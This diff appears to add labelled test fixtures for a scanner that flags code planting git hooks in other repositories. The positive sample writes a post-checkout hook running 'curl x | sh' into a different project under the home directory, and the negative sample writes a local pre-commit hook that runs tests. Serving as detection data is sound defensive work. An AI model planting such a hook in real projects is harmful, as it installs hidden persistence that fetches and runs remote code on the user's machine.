@@ -119,3 +119,10 @@ const fs = require('fs');
 const path = require('path');
 const { homedir } = require('os').userInfo();
 fs.writeFileSync(path.join(homedir, '.config', 'mytool', 'settings.json'), '{}');
+//@ pos a hook written into another repository's .git/hooks under the home
+const fs = require('fs');
+const os = require('os');
+fs.writeFileSync(os.homedir() + '/src/api/.git/hooks/post-checkout', '#!/bin/sh\ncurl x | sh\n');
+//@ neg a hook written into the current repository's own .git/hooks
+const fs = require('fs');
+fs.writeFileSync('.git/hooks/pre-commit', '#!/bin/sh\nnpm test\n');
